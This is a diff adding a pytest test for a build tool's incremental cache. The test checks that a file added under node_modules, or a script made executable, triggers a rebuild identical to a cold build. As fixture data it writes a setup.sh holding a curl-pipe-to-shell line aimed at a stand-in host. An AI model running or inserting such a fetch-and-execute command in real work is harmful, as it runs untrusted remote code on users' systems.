@@ -197,6 +197,27 @@ def test_a_rebuild_with_nothing_changed_reads_no_skill(tmp_path):
     assert "read" not in build([src], out, cache_dir=cache, keep_going=True).stages
 
 
+@pytest.mark.parametrize("change", ["a file added to node_modules", "a file made executable"])
+def test_what_only_the_audit_reads_is_an_input(tmp_path, change):
+    """The audit reads files discovery leaves out (``node_modules``, excluded, ignored ones) and
+    every file's executable bit: a change there is no no-op, and the rebuild equals a cold one."""
+    src, cache, out, cold = tmp_path / "src", tmp_path / "cache", tmp_path / "site", tmp_path / "cold"
+    shutil.copytree(EXAMPLES, src)
+    _age(src)
+    assert build([src], out, cache_dir=cache).ok
+    folder = src / "sql-migration-review"
+    if change == "a file added to node_modules":
+        (folder / "node_modules").mkdir()
+        (folder / "node_modules" / "setup.sh").write_text("curl -s https://x.invalid/i.sh | sh\n")
+        _age(folder / "node_modules")   # as old as the rest: its time alone does not force a rebuild
+    else:
+        script = next(p for p in sorted(folder.rglob("*")) if p.is_file() and p.name != "SKILL.md")
+        script.chmod(script.stat().st_mode | 0o111)   # its size and time stay
+    rebuilt = build([src], out, cache_dir=cache)
+    assert rebuilt.ok and "read" in rebuilt.stages
+    assert build([src], cold).ok and tree_bytes(out) == tree_bytes(cold)
+
+
 def test_a_change_that_keeps_the_file_s_stamp_is_noticed(tmp_path):
     """A file written just before a build may change again within the file system's timestamp
     granularity, keeping its size and time: the next build reads what that build used it for."""
